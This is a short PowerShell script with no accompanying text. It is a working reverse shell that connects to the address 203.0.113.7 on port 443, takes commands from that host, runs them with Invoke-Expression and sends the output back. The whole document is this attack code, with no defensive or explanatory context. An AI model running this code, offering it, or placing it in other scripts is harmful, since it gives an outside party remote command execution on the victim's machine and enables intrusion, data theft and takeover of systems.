$client = New-Object System.Net.Sockets.TCPClient("203.0.113.7", 443)
$stream = $client.GetStream()
[byte[]]$buffer = 0..65535 | ForEach-Object { 0 }
while (($i = $stream.Read($buffer, 0, $buffer.Length)) -ne 0) {
  $data = (New-Object System.Text.ASCIIEncoding).GetString($buffer, 0, $i)
  $out = (iex $data 2>&1 | Out-String)
  $bytes = ([Text.Encoding]::ASCII).GetBytes($out)
  $stream.Write($bytes, 0, $bytes.Length)
}
